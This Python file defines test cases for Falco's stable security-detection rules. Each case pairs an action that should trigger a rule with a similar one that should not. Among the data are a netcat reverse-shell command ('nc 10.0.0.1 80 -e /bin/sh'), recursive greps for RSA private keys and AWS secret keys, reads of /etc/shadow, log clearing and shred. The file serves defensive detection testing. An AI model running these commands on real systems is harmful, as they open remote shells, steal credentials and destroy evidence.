"""Deeds for Falco's stable rules."""

from __future__ import annotations

from stage.deeds import Deed, does, program

KEY = "-----BEGIN RSA PRIVATE KEY-----"

DEEDS = (
    Deed(
        "Directory traversal monitored file read",
        does(("open", "/tmp/../../etc/passwd")),
        does(("open", "/etc/passwd")),
    ),
    Deed(
        "Read sensitive file trusted after startup",
        program("/usr/sbin/nginx", act=[("sleep", 5200), ("open", "/etc/shadow")]),
        program("/usr/sbin/nginx", act=[("open", "/etc/shadow")]),
    ),
    Deed("Read sensitive file untrusted", does(("open", "/etc/shadow")), does(("open", "/etc/passwd"))),
    Deed(
        "Run shell untrusted",
        program("/usr/sbin/nginx", act=[("run", "/bin/sh", "sh", "-c", "id")]),
        does(("run", "/bin/sh", "sh", "-c", "id")),
    ),
    Deed(
        "System user interactive",
        program("/usr/sbin/sshd", act=[("setuid", 1), ("run", "/bin/ls", "ls")]),
        program("/usr/sbin/sshd", act=[("setuid", 1000), ("run", "/bin/ls", "ls")]),
    ),
    Deed(
        "Terminal shell in container",
        program("/usr/bin/runc", act=[("tty",), ("run", "/bin/sh", "sh")]),
        program("/usr/bin/runc", act=[("setsid",), ("run", "/bin/sh", "sh")]),
    ),
    Deed(
        "Contact K8S API Server From Container",
        does(("connect", "127.0.0.77", 6443)),
        does(("connect", "127.0.0.78", 6443)),
    ),
    Deed(
        "Netcat Remote Code Execution in Container",
        program("/usr/bin/nc", "nc", "10.0.0.1", "80", "-e", "/bin/sh"),
        program("/usr/bin/nc", "nc", "10.0.0.1", "80"),
    ),
    Deed(
        "Search Private Keys or Passwords",
        program("/bin/grep", "grep", "-r", KEY, "/home"),
        program("/bin/grep", "grep", "-r", "BEGIN CERTIFICATE", "/home"),
    ),
    Deed(
        "Clear Log Activities",
        does(("write", "/var/log/syslog", "old"), ("open", "/var/log/syslog", "wt")),
        does(("keep", "/var/log/syslog", "ca")),
    ),
    Deed(
        "Remove Bulk Data from Disk",
        program("/usr/bin/shred", "shred", "/tmp/x"),
        program("/usr/bin/truncate", "truncate", "/tmp/x"),
    ),
    Deed(
        "Create Symlink Over Sensitive Files",
        does(("symlink", "/etc/shadow", "/tmp/plain-name")),
        does(("symlink", "/etc/hostname", "/tmp/other-name")),
    ),
    Deed(
        "Create Hardlink Over Sensitive Files",
        does(("linkat", "/etc/shadow", "/tmp/hard-name")),
        does(("linkat", "/etc/passwd", "/tmp/hard-other")),
    ),
    Deed(
        "Packet socket created in container",
        does(("socket", 17, 3, 768)),
        does(("socket", 2, 2, 0)),
    ),
    Deed(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        does(
            ("address", "127.0.0.1"),
            ("accept", "127.0.0.1", 7001),
            ("dup2", 4, 0),
            new=("mnt", "uts", "ipc", "pid", "net"),
        ),
        does(("keep", "/etc/passwd"), ("dup2", 3, 0)),
    ),
    Deed(
        "Linux Kernel Module Injection Detected",
        does(("call", 175, 0, 0, 0)),
        does(("call", 175, 0, 0, 0), before=[("setuid", 1000)]),
    ),
    Deed(
        "Debugfs Launched in Privileged Container",
        program("/sbin/debugfs", "debugfs", "/dev/sda"),
        program("/sbin/debugfs", "debugfs", "/dev/sda"),
        container={"privileged": True},
        otherwise={"privileged": False},
    ),
    Deed(
        "Detect release_agent File Container Escapes",
        does(("write", "/tmp/release_agent", "/cmd")),
        does(("write", "/tmp/release_notes", "/cmd")),
    ),
    Deed("PTRACE attached to process", does(("ptrace", "attach")), does(("call", 101, 3, 1, 0, 0))),
    Deed("PTRACE anti-debug attempt", does(("ptrace", "traceme")), does(("call", 101, 3, 1, 0, 0))),
    Deed(
        "Find AWS Credentials",
        program("/bin/grep", "grep", "-ri", "aws_secret_access_key", "/root"),
        program("/bin/grep", "grep", "-ri", "aws_region", "/root"),
    ),
    Deed("Execution from /dev/shm", program("/dev/shm/job", "/dev/shm/job"), program("/tmp/job", "/tmp/job")),
    Deed(
        "Drop and execute new binary in container",
        does(("copy", "/bin/actor", "/tmp/new"), ("run", "/tmp/new", "new"), layered=True),
        does(("run", "/bin/actor", "old"), layered=True),
    ),
    Deed(
        "Disallowed SSH Connection Non Standard Port",
        program(
            "/usr/bin/ssh",
            act=[("address", "198.51.100.7"), ("accept", "198.51.100.7", 443)],
            new=("mnt", "uts", "ipc", "pid", "net"),
        ),
        program(
            "/usr/bin/ssh",
            act=[("address", "198.51.100.7"), ("accept", "198.51.100.7", 22)],
            new=("mnt", "uts", "ipc", "pid", "net"),
        ),
    ),
    Deed(
        "Fileless execution via memfd_create",
        does(("memfd", "hidden")),
        does(("run", "/bin/actor", "plain")),
    ),
)
